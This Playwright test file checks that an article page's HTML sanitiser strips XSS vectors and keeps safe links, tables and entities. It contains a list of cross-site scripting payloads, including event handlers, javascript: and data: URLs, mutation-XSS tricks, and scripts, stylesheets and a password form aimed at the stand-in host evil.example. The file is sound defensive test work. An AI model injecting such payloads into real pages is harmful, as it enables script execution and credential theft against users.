import type { Page } from '@playwright/test';
import { expect, test } from './e2e-test.ts';
import { articleFixture, articleUrl } from './resources-page.ts';

// Disable the content security policy, so that only the sanitiser stops attacks.
test.use({ bypassCSP: true });

/** Serves an article with this body. Returns the recorded requests to other hosts and dialogs. */
async function serveArticle(page: Page, contents: () => string): Promise<string[]> {
  const sideEffects: string[] = [];
  await page.route(
    (url) => url.hostname !== 'localhost',
    (route) => {
      sideEffects.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '' });
    },
  );
  await page.route(articleUrl, (route) => route.fulfill({ json: articleFixture(contents()) }));
  page.on('dialog', (dialog) => {
    sideEffects.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return sideEffects;
}

const body = (page: Page) => page.getByRole('main').locator('article > div').last();
const payload = "document.documentElement.dataset.ran='yes'";

const attacks = [
  `<script>${payload}</script><script src="https://evil.example/a.js"></script>`,
  `<img src="/nothing.png" onerror="${payload}"><img src=x onerror=${payload}>`,
  `<p onmouseover="${payload}" onclick="${payload}">a</p><details open ontoggle="${payload}">b</details>`,
  `<a href="javascript:${payload}">a</a><a href=" java&#10;script:${payload}">b</a>`,
  `<a href="data:text/html,<script>${payload}</script>">a</a><iframe src="data:text/html,<script>parent.${payload}</script>"></iframe><img src="data:image/svg+xml,<svg/>">`,
  `<svg onload="${payload}"><a xlink:href="http://evil.example"><text>a</text></a><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${payload}"></style></mglyph></table></mtext></math>`,
  `<style>@import 'https://evil.example/s.css'; body{display:none}</style><p style="background:url(https://evil.example/b.png);position:fixed;inset:0">a</p><link rel="stylesheet" href="https://evil.example/l.css">`,
  `<iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>parent.${payload}</script>"></iframe><iframe src="//evil.example/f"></iframe><iframe></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<form action="https://evil.example/f"><input name="password"><button formaction="https://evil.example/b">Go</button></form>`,
  `<video src="https://evil.example/v" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src="/mark.svg" srcset="https://evil.example/i.png 2x" alt=""></picture><table background="https://evil.example/t.png"><tbody><tr><td background="https://evil.example/c.png">a</td></tr></tbody></table><img src="http://evil.example/h.png"><img src="//evil.example/r.png"><img src="/\\evil.example/w.png">`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<noscript><p title="</noscript><img src=x onerror=${payload}>"></p></noscript><p id="root" name="body">a</p>`,
];
const encodeHtml = (html: string) =>
  html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const forbiddenElements =
  'script, style, svg, math, iframe, object, embed, form, input, button, video, base, meta, link, [style], [id], a[href]';

test('2.6 Article: sanitises the body, so that no attack runs or loads anything', async ({ open, page }) => {
  const surround = (html: string) => `<p>Before</p>${html}<p>After</p>`;
  const allAttacks = attacks.join('');
  let contents = '';
  const sideEffects = await serveArticle(page, () => contents);
  for (contents of [
    surround(allAttacks),
    // These two change how the browser parses the markup after them, so test them separately.
    ...attacks.filter((attack) => /^<(math|noscript)/.test(attack)).map(surround),
    encodeHtml(surround(allAttacks)),
    `<p>Before ${encodeHtml(allAttacks)} After</p>`,
  ]) {
    await open('/resources/hostile');
    await expect(body(page)).toContainText('Before');
    await expect(body(page)).toContainText('After');
    for (const element of await body(page).locator('a, p, details').all())
      await element.dispatchEvent('click');
    await page.waitForLoadState('networkidle');
    const ran = await page.evaluate(() => document.documentElement.dataset.ran);
    expect({ contents, ran, sideEffects }).toEqual({ contents, ran: undefined, sideEffects: [] });
    await expect(page).toHaveURL('/resources/hostile');
    await expect(body(page).locator(forbiddenElements), contents).toHaveCount(0);
  }
});

test('2.6 Article: keeps https links, frames, tables and entities', async ({ open, page, context }) => {
  const links = [
    'http://old.example',
    '//other.example',
    '/settings',
    'mailto:a@b.example',
    '#here',
    'ftp://x.example',
  ];
  const table =
    '<table class="x" border="9"><caption>Heights</caption><thead><tr><th scope="col">Gauge</th><th colspan="2">m</th></tr></thead><tbody><tr><td>Ōpārara</td><td>1</td><td>2</td></tr></tbody></table>';
  let contents = `<p><a href="https://good.example/x" target="_self">good</a>
    ${links.map((href) => `<a href="${href}">${href}</a>`).join(' ')}</p>${table}${table}
    <iframe src="https://player.example/1" srcdoc="<p>no</p>" onload="${payload}" name="top" allow="camera"></iframe>`;
  const sideEffects = await serveArticle(page, () => contents);
  await open('/resources/hostile');
  await expect(body(page).locator('a[href]')).toHaveCount(1);
  for (const href of links) await expect(body(page)).toContainText(href);
  const firstTable = page
    .getByRole('group', { name: 'Heights' })
    .first()
    .getByRole('table', { name: 'Heights' });
  await expect(firstTable.getByRole('columnheader')).toHaveText(['Gauge', 'm']);
  await expect(firstTable.getByRole('columnheader').nth(1)).toHaveAttribute('colspan', '2');
  await expect(firstTable.getByRole('cell')).toHaveText(['Ōpārara', '1', '2']);

  const frame = body(page).locator('iframe');
  await frame.scrollIntoViewIfNeeded();
  await expect.poll(() => sideEffects).toEqual(['https://player.example/1']);
  await expect(frame).toHaveAttribute('title', 'Embedded content');
  const sandbox = 'allow-scripts allow-same-origin allow-presentation allow-popups';
  await expect(frame).toHaveAttribute('sandbox', sandbox);
  for (const attribute of ['srcdoc', 'onload', 'name', 'allow'])
    await expect(frame).not.toHaveAttribute(attribute, /.*/);

  await context.route('https://good.example/**', (route) => route.fulfill({ body: 'Good' }));
  const popup = context.waitForEvent('page');
  await body(page).getByRole('link', { name: 'good' }).click();
  const newTab = await popup;
  await expect(newTab).toHaveURL('https://good.example/x');
  expect(await newTab.evaluate(() => [opener, document.referrer])).toEqual([null, '']);

  // Single and double encoded entities are decoded.
  const singleEncoded = '<h1>Head</h1><p>Fish &amp; chips&nbsp;here &lt;b&gt;</p>';
  const doubleEncoded = '<h1>Head</h1><p>Fish &amp;amp; chips&amp;nbsp;here &amp;lt;b&amp;gt;</p>';
  for (contents of [singleEncoded, doubleEncoded, encodeHtml(doubleEncoded)]) {
    await page.reload();
    await expect(body(page).getByRole('heading', { level: 2 })).toHaveText('Head');
    expect(await body(page).locator('p').textContent(), contents).toBe('Fish & chips\u00a0here <b>');
  }
});
